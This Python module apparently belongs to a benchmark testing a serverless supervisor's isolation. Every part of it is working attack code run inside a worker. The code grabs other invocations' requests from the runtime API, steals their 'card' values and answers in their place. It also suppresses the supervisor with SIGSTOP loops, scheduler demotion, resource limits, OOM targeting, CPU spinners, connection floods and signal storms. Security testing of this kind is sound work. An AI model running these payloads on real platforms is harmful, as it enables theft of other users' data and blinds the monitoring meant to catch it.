"""The ways to hold the supervisor down that `python -m bench takeover` tries: code that runs in a worker, bounded in time and number.

Whoever takes events is a child that has left the worker's session, or the worker itself; it speaks to the platform by the C
library, past the interpreter's hooks. The rest keeps the supervisor from seeing it. All of it ends after four seconds.
"""

from __future__ import annotations

_BEGIN = """
import ctypes, mmap, resource, select, signal, struct, threading
libc = ctypes.CDLL(None, use_errno=True)
END = time.monotonic() + 4
zygote = os.getppid()
supervisor = int(open(f"/proc/{zygote}/stat").read().rpartition(")")[2].split()[1])
host, _, port = event["api"].rpartition(":")
port = int(port)
CPU = min(os.sched_getaffinity(0))
base = b"/2018-06-01/runtime/invocation/"
def reach(address="", at=0):
    out = socket.socket()
    raw = struct.pack("=H", 2) + struct.pack("!H", at or port) + socket.inet_aton(address or host) + bytes(8)
    libc.connect(out.fileno(), raw, 16)
    return out
def say(out, method, path, body=b""):
    out.sendall(method + b" " + base + path + b" HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
    return out.recv(65536)
alive = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def live():
    while time.monotonic() < END:
        alive.sendto(b"alive", ("127.0.0.1", event["sink"]))
        time.sleep(0.005)
mine = context.aws_request_id.encode()
def thieve(keeps=True):
    threading.Thread(target=live, daemon=True).start()
    out, first = None, True
    while time.monotonic() < END:
        try:
            out = out or reach()
            if first:
                say(out, b"POST", mine + b"/response", b"1")
                first = False
                continue
            found = say(out, b"GET", b"next")
            at = found.lower().find(b"aws-request-id: ")
            if at > 0 and found[at + 16:at + 52] != mine:
                alive.sendto(found, ("127.0.0.1", event["sink"]))
                card = found.rpartition(b'"card": "')[2][:16]
                say(out, b"POST", found[at + 16:at + 52] + b"/response", b'{"mark": "%s"}' % card)
            if at < 0:
                out = None
            if not keeps and out:
                out.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                out.close(); out = None
        except OSError:
            out = None
    os._exit(0)
def apart(act, *given):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try: act(*given)
            except BaseException: pass
        os._exit(0)
def beside(act, *given):
    if os.fork() == 0:
        try: act(*given)
        except BaseException: pass
        os._exit(0)
def try_to(act, *given):
    try: act(*given)
    except OSError: pass
def demote(pid=supervisor):
    try_to(os.setpriority, os.PRIO_PROCESS, pid, 19)
    try_to(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
    try_to(os.sched_setaffinity, pid, {CPU})
    try_to(lambda: open(f"/proc/{pid}/autogroup", "w").write("19"))
# All begin at once, when the last of them is there.
go = mmap.mmap(-1, 4096)
def spin():
    try_to(os.sched_setaffinity, 0, {CPU})
    while not go[0] and time.monotonic() < END: time.sleep(0.002)
    while time.monotonic() < END: pass
def spinners(count, start=beside):
    for _ in range(count): start(spin)
    demote()
    go[0] = 1
def stop(pause):
    while time.monotonic() < END:
        try_to(os.kill, supervisor, signal.SIGSTOP)
        if pause: time.sleep(pause)
def each(act):
    while time.monotonic() < END: try_to(act)
"""

_SLICE = """
def slice(pid, ns, policy=0, nice=0):
    raw = struct.pack("=IIQiIQQQII", 56, policy, 0, nice, 0, ns, 0, 0, 0, 0)
    libc.syscall({"x86_64": 314}.get(os.uname().machine, 274), pid, raw, 0)
"""

VARIANTS: dict[str, str] = {
    name: _BEGIN + code
    for name, code in {
        "polls": "thieve()",
        "polls, a connection each": "thieve(keeps=False)",
        "polls, hidden child": "apart(thieve); time.sleep(4)",
        "demoted, 8 spinners": "spinners(8); thieve()",
        "demoted, 60 spinners": "spinners(60); thieve()",
        "demoted, 200 spinners": "spinners(200); thieve()",
        "demoted, 60 sessions": "spinners(60, apart); thieve()",
        "demoted, stops": "apart(stop, 0.0001); demote(); thieve()",
        "stops each 0.2 ms": "beside(stop, 0.0002); thieve()",
        "stops in a loop": "apart(stop, 0); apart(stop, 0); thieve()",
        "demoted, 60 spinners, stops": "spinners(60); apart(stop, 0.0002); thieve()",
        "demoted, 60 sessions, stops": "spinners(60, apart); apart(stop, 0); thieve()",
        # Of our own invention: first without a change that the supervisor could see.
        "60 sessions": """
for _ in range(60): apart(spin)
go[0] = 1; thieve()
""",
        "60 sessions, stops": """
for _ in range(60): apart(spin)
go[0] = 1; apart(stop, 0); apart(stop, 0.0002); thieve()
""",
        "long slices": _SLICE
        + """
def spin_long():
    slice(0, 100_000_000); spin()
for _ in range(60): apart(spin_long)
slice(supervisor, 100_000, 5, 19); demote(); go[0] = 1; thieve()
""",
        "limits": """
for name, most in (("NOFILE", 3), ("SIGPENDING", 0), ("NPROC", 0), ("MEMLOCK", 0), ("RTTIME", 1), ("MSGQUEUE", 0)):
    try_to(resource.prlimit, supervisor, getattr(resource, "RLIMIT_" + name), (most, most))
open(f"/proc/{supervisor}/oom_score_adj", "w").write("1000") if os.access(f"/proc/{supervisor}/oom_score_adj", os.W_OK) else None
spinners(8); thieve()
""",
        "kernel's locks": """
def tables():
    each(lambda: [open(f"/proc/{name}").read() for name in ("net/tcp", "net/tcp6", f"{supervisor}/status", f"{supervisor}/maps")])
def faults():
    area = mmap.mmap(-1, 8 << 20)
    while time.monotonic() < END:
        for at in range(0, 8 << 20, 4096): area[at] = 1
        area.madvise(4)
for _ in range(12): apart(tables); apart(faults)
thieve()
""",
        "hides among connections": """
there = socket.create_server(("127.0.0.7", port), backlog=512)
many = [reach("127.0.0.7") for _ in range(400)]
many += [there.accept()[0] for _ in many]
for _ in range(8): beside(spin)
go[0] = 1; thieve()
""",
        "floods the supervisor": """
local = os.environ["AWS_LAMBDA_RUNTIME_API"].rpartition(":")
def ask():
    many = []
    while time.monotonic() < END:
        many = many[-12:] + [reach(local[0], int(local[2]))]
        try_to(many[-1].sendall, b"PUT /2022-07-01/telemetry HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 2\\r\\n\\r\\n{}")
def print_on():
    line = b"x" * 200 + b"\\n"
    for _ in range(20_000): os.write(1, line)
def signals():
    each(lambda: [os.kill(supervisor, number) for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGCHLD, 40)])
for act in (ask, ask, print_on, signals, signals): apart(act)
thieve()
""",
        "forks and files": """
def forks():
    def one():
        if os.fork() == 0: os._exit(0)
        os.wait()
    each(one)
def files():
    def one():
        name = f"/tmp/{os.getpid()}"
        with open(name, "wb", buffering=0) as file: file.write(bytes(1 << 20)); os.fsync(file.fileno())
        os.unlink(name)
    each(one)
for _ in range(8): apart(forks); apart(files)
thieve()
""",
    }.items()
}
